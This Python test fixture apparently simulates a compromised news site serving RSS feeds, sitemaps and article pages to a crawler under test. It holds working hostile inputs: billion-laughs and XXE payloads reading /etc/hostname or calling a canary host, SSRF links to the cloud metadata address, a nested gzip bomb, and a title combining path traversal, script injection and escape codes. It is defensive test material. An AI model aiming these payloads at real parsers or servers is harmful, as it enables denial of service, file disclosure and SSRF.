"""Lists and pages that are made to harm or fool their reader, beside an honest newsroom's."""

from __future__ import annotations

import gzip

from tests.hostile.answering import Answering

# Of each honest article: its path, and how its page is sent.
ARTICLES = {
    "/story/1": "plain", "/story/2": "utf-16", "/story/3": "windows-1252", "/story/4": "gzip",
    "/story/5": "nonsense dates", "/story/6": "undeclared",
}  # fmt: skip
_RSS = (
    '<?xml version="1.0"?>{}<rss version="2.0"><channel><title>Bay Desk</title>{}</channel></rss>'
)
_ITEM = "<item><title>{}</title><link>{}</link><pubDate>{}</pubDate></item>"
_URLSET = '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{}</urlset>'
_INDEX = '<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{}</sitemapindex>'
_LAUGHS = "".join(f'<!ENTITY l{number} "{f"&l{number - 1};" * 10}">' for number in range(1, 10))


def story(path: str) -> str:
    """Return the text of an honest article: three paragraphs of its own."""
    number = path.rpartition("/")[2]
    lines = (
        f"Ferry number {number} left Bayport for the island on Monday, said the café at the pier.",
        f"Harbour master Ada Quill told {number} reporters that repairs of the quay had ended.",
        f"The port office expects {number} hundred passengers a day before the summer is over.",
    )
    return "\n\n".join(lines)


def page(path: str, head: str = "", before: str = "", after: str = "") -> str:
    """Return an article's page."""
    paragraphs = "".join(f"<p>{line}</p>" for line in story(path).split("\n\n"))
    title = f"Ferry {path.rpartition('/')[2]} sails again"
    return (
        f"<html><head><title>{title}</title>{head}</head>"
        f"<body>{before}<article><h1>{title}</h1>{paragraphs}</article>{after}</body></html>"
    )


class Contents(Answering):
    """Answers of a newsroom that was broken into."""

    def send_story(self) -> None:
        form = ARTICLES.get(self.path, "")
        text = page(self.path)
        if form in ("utf-16", "windows-1252"):
            self.answer(text.encode(form), f"text/html; charset={form}")
        elif form == "gzip":
            self.answer(gzip.compress(text.encode()), Content_Encoding="gzip")
        elif form == "undeclared":
            self.answer(text.encode(), "text/html")
        else:
            self.answer(text.encode())

    # Lists. Honest articles are in the first feed and the sitemap that lists itself.

    def feed(self, items: str, doctype: str = "") -> None:
        self.answer(_RSS.format(doctype, items).encode(), "application/rss+xml")

    def send_feed(self) -> None:
        base, canary = self.server.base, self.server.canary
        links = [
            (base + "/story/1", "Sat, 01 Mar 2025 12:00:00 GMT"),
            (base + "/story/2", "Sat, 01 Mar 2025 12:00:00 GMT"),
            (base + "/story/3", "Sat, 01 Mar 2025 12:00:00 GMT"),
            (base + "/story/5", "Smarch 99th, 20255 25:61"),
            (canary + "/stolen", ""),
            ("file:///etc/hostname", ""),
            ("javascript:alert(1)", ""),
            ("http://169.254.169.254/latest/", ""),
        ]
        self.feed("".join(_ITEM.format("A ferry", link, when) for link, when in links))

    def send_laughs(self) -> None:
        self.feed(
            _ITEM.format("&l9;", self.server.base, ""),
            f'<!DOCTYPE rss [<!ENTITY l0 "ha">{_LAUGHS}]>',
        )

    def send_quadratic(self) -> None:
        entity = f'<!DOCTYPE rss [<!ENTITY a "{"a" * 100_000}">]>'
        self.feed(_ITEM.format("&a;" * 20_000, self.server.base, ""), entity)

    def send_xxe(self) -> None:
        entity = f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{self.server.canary}/xxe">]>'
        self.feed(_ITEM.format("&x;", self.server.base, ""), entity)

    def send_xxefile(self) -> None:
        entity = '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
        self.feed(_ITEM.format("&x;", self.server.base, ""), entity)

    def send_parameter(self) -> None:
        entity = f'<!DOCTYPE rss [<!ENTITY % x SYSTEM "{self.server.canary}/dtd"> %x;]>'
        self.feed(_ITEM.format("A ferry", self.server.base, ""), entity)

    def send_dtd(self) -> None:
        doctype = f'<!DOCTYPE rss SYSTEM "{self.server.canary}/rss.dtd">'
        self.feed(_ITEM.format("A ferry", self.server.base + "/story/1", ""), doctype)

    def send_many(self) -> None:
        links = (f"{self.server.base}/many{number}" for number in range(50_000))
        self.feed("".join(_ITEM.format("A ferry", link, "") for link in links))

    def send_cutfeed(self) -> None:
        self.answer(b"<rss version='2.0'><channel><item><title>Cut", "application/rss+xml")

    def send_sitemap(self) -> None:
        paths = ("/sitemap", "/story/4", "/story/6")
        self._list(_URLSET, "url", [self.server.base + path for path in paths])

    def send_index(self) -> None:
        """A ring of sitemap indexes; one of them leads to the canary, too."""
        number = int(self.path.rpartition("/")[2])
        base, canary = self.server.base, self.server.canary
        links = [f"{base}/index/{(number + 1) % 3}", f"{base}/index/{number}", f"{canary}/map.xml"]
        self._list(_INDEX, "sitemap", links)

    def _list(self, form: str, tag: str, links: list[str]) -> None:
        entries = "".join(f"<{tag}><loc>{link}</loc></{tag}>" for link in links)
        self.answer(form.format(entries).encode(), "application/xml")

    def send_packedbomb(self) -> None:
        bomb = gzip.compress(b"<urlset>" + b" " * 60_000_000, 1)
        self.answer(gzip.compress(bomb), "application/gzip")

    # Pages.

    def send_deep(self) -> None:
        self.answer(page(self.path, before="<div>" * 100_000).encode())

    def send_giant(self) -> None:
        self.answer(page(self.path, after="<p>" + "word " * 1_000_000).encode())

    def send_attributes(self) -> None:
        flood = " ".join(f"a{number}=1" for number in range(5_000))
        self.answer(page(self.path, before=f"<div {flood}></div>").encode())

    def send_evil(self) -> None:
        title = "../../../etc/passwd\0<script>alert(1)</script>\x1b[2J"
        head = (
            f'<meta property="og:title" content="{title}">'
            f'<link rel="canonical" href="{self.server.canary}/story/1">'
            '<meta property="article:published_time" content="0000-13-99T99:99:99Z">'
        )
        images = (
            f'<img src="{self.server.canary}/pixel"><iframe src="{self.server.canary}/x"></iframe>'
        )
        self.answer(page(self.path, head, images).replace("\0", "&#0;").encode())

    def send_lie(self) -> None:
        self.answer(page(self.path).encode("windows-1252"), "text/html; charset=utf-8")
